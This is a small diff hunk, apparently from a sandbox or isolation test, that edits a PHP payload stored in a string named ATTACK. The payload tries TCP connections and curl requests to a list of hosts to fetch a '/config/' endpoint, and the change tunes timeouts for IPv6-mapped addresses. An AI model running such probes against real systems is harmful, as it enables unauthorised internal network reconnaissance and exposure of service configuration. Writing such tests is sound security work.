@@ -40,7 +40,9 @@ const ATTACK = `
 		return is_string($text) && curl_getinfo($curl, CURLINFO_RESPONSE_CODE) > 0 && !str_contains($text, 'from PHP') ? $text : false;
 	};
 	foreach ($hosts as $host) {
-		$try("tcp://$host", fn () => stream_socket_client("tcp://$host:$port", $e, $m, 3));
+		// Where there is no gateway, IPv4 inside of IPv6 leads nowhere, and takes all of the time.
+		$most = preg_match('/^\\[(64:ff9b|2002):/', $host) ? 1 : 3;
+		$try("tcp://$host", fn () => stream_socket_client("tcp://$host:$port", $e, $m, $most));
 		$try("curl $host", fn () => $curl("http://$host:$port/config/"));
 	}
 	foreach (array_slice($hosts, 0, 2) as $host) {
